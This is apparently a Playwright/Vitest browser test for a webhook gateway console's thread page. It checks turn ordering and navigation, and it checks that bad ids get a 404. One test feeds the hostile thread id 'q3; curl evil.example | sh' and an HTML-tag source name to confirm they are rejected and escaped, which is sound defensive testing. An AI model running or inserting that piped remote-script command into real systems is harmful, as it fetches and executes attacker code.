import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHROMIUM, skipBrowser, useBrowserPage } from '../../support/browser.ts';
import { SEED_REQUEST, startWorld, type TestWorld } from '../../support/gateway.ts';

/**
 * The console's thread page (/console/threads/<source>/<thread_id>) in a real browser: two conversations sent
 * through the running local gateway with the same thread_id show as turns 1 and 2, in order, each question with
 * its answer; the second arrives while the page is open; a conversation page links to its thread.
 */
if (skipBrowser) {
  console.warn(
    `console thread page browser test SKIPPED: ${CHROMIUM} is missing (install it: apt-get install -y chromium).`,
  );
}

const THREAD = 'browser-thread';
const QUERIES = ['Top deals this quarter?', 'Which of those are at risk?'];
let world: TestWorld;

beforeAll(async () => {
  world = await startWorld();
});
afterAll(async () => {
  await world?.close();
});

describe.skipIf(skipBrowser)('console thread page in Chromium', () => {
  let page: Page;
  const errors: string[] = [];
  const failedRequests: string[] = [];
  const ids: string[] = [];

  useBrowserPage((opened) => {
    page = opened;
    page.on('pageerror', (e) => errors.push(e.message));
    page.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
    // A background poll cut off by the test's own navigation (net::ERR_ABORTED) is not a failure of the page.
    page.on('requestfailed', (r) => {
      if (r.failure()?.errorText !== 'net::ERR_ABORTED') failedRequests.push(`${r.url()}: ${r.failure()?.errorText}`);
    });
    page.on('response', (r) => r.status() >= 400 && failedRequests.push(`${r.url()}: HTTP ${r.status()}`));
  });

  const post = async (query: string) => {
    const answer = await world.post({ ...SEED_REQUEST, query, thread_id: THREAD });
    expect(answer.status).toBe(200);
    ids.push(answer.body.conversation_id);
  };
  const turns = () =>
    page
      .locator('ol.thread > li')
      .evaluateAll((lis) => lis.map((li) => `${li.getAttribute('data-turn')} ${li.getAttribute('data-id')}`));

  it('shows both turns in order, each question with its answer; the second turn arrives while the page is open', async () => {
    await post(QUERIES[0]!);
    // Another source's thread of the same name is not this thread.
    await world.post({ ...SEED_REQUEST, source_system: 'other_system', query: 'other', thread_id: THREAD });
    await page.goto(`${world.gateway.url}/console/threads/testing_system/${THREAD}`);
    expect(await page.locator('h1').innerText()).toMatch(new RegExp(`^Thread ${THREAD} testing_system 1$`));
    expect(await turns()).toEqual([`1 ${ids[0]}`]);

    await post(QUERIES[1]!);
    // The second turn as its ended run shows it: a live refresh may have shown it while it still ran (in_progress,
    // pending), the next one ends it.
    await expect
      .poll(() => page.locator('ol.thread > li p.turn').allInnerTexts())
      .toEqual([
        expect.stringMatching(new RegExp(`^turn 1 · ${ids[0]} · \\d{4}-.* · completed delivered$`)),
        expect.stringMatching(new RegExp(`^turn 2 · ${ids[1]} · \\d{4}-.* · completed delivered$`)),
      ]);
    expect(await turns()).toEqual([`1 ${ids[0]}`, `2 ${ids[1]}`]);
    expect(await page.locator('h1 .count').innerText()).toBe('2');
    expect(await page.locator('ol.thread > li pre.question').allInnerTexts()).toEqual(QUERIES);
    expect(await page.locator('ol.thread > li pre.answer').allInnerTexts()).toEqual(
      QUERIES.map((q) => `Answer to: ${q}`),
    );
    expect(await page.locator('ol.thread').innerText()).not.toContain('other');
    expect(errors).toEqual([]);
    expect(failedRequests).toEqual([]);
  });

  it('links back to the list of conversations, as a conversation page does', async () => {
    await page.goto(`${world.gateway.url}/console/threads/testing_system/${THREAD}`);
    const back = page.locator('main .crumbs a');
    expect(await back.innerText()).toBe('← all conversations');
    await back.click();
    await page.waitForURL(/\/console$/);
    await page.goto(`${world.gateway.url}/console/threads/testing_system/${THREAD}`);
  });

  it('a turn links to its conversation page, which links back to its thread', async () => {
    await page.locator(`ol.thread > li[data-id="${ids[1]}"] a[href$="${ids[1]}"]`).click();
    await page.waitForURL(`**/console/conversations/${ids[1]}`);
    const threadLink = page.locator('#thread a.thread');
    expect(await threadLink.getAttribute('href')).toBe(`/console/threads/testing_system/${THREAD}`);
    expect(await page.locator('#thread').innerText()).toMatch(new RegExp(`^${THREAD} · 2 turn 2$`));
    await threadLink.click();
    await page.waitForURL(`**/console/threads/testing_system/${THREAD}`);
    expect(await turns()).toEqual([`1 ${ids[0]}`, `2 ${ids[1]}`]);

    // A conversation outside any thread has no thread link.
    const alone = (await world.post({ ...SEED_REQUEST, query: 'no thread' })).body.conversation_id;
    await page.goto(`${world.gateway.url}/console/conversations/${alone}`);
    expect(await page.locator('h1.id').innerText()).toBe(alone);
    expect(await page.locator('#thread').count()).toBe(0);
    expect(errors).toEqual([]);
    expect(failedRequests).toEqual([]);
  });
});

describe('console thread page of a source or thread id the webhook never takes', () => {
  const get = async (source: string, thread: string) => {
    const response = await fetch(
      `${world.gateway.url}/console/threads/${encodeURIComponent(source)}/${encodeURIComponent(thread)}`,
    );
    return { status: response.status, text: await response.text() };
  };

  it('is 404 saying so, not an empty thread "(yet)" with the URL’s text in a copy-paste command', async () => {
    // A link an operator is sent: its text would have been printed in `npx webhook-gateway conversations list --thread …`.
    const hostile = await get('testing_system', 'q3; curl evil.example | sh');
    expect(hostile.status).toBe(404);
    expect(hostile.text).toContain(
      '&quot;q3; curl evil.example | sh&quot; is not a thread id (ASCII letters (A-Z, a-z), digits, &#39;_&#39;, &#39;-&#39; and &#39;.&#39;, starting with a letter or digit, at most 128 characters): character 3 is &#39;;&#39;; no conversation is in it.',
    );
    expect(hostile.text).not.toContain('conversations list --thread');
    expect(hostile.text).not.toContain('(yet)');
    const tooLong = await get('testing_system', 'a'.repeat(129));
    expect(tooLong.status).toBe(404);
    const source = await get('<b>crm</b>', THREAD);
    expect(source.status).toBe(404);
    expect(source.text).toContain('&quot;&lt;b&gt;crm&lt;/b&gt;&quot; is not a source system');
    // A thread that may still come (its ids valid) is the empty thread page, live.
    const later = await get('Testing.System', 'later-thread');
    expect(later.status).toBe(200);
    expect(later.text).toContain('No conversation of testing_system is in thread later-thread (yet).');
  });
});
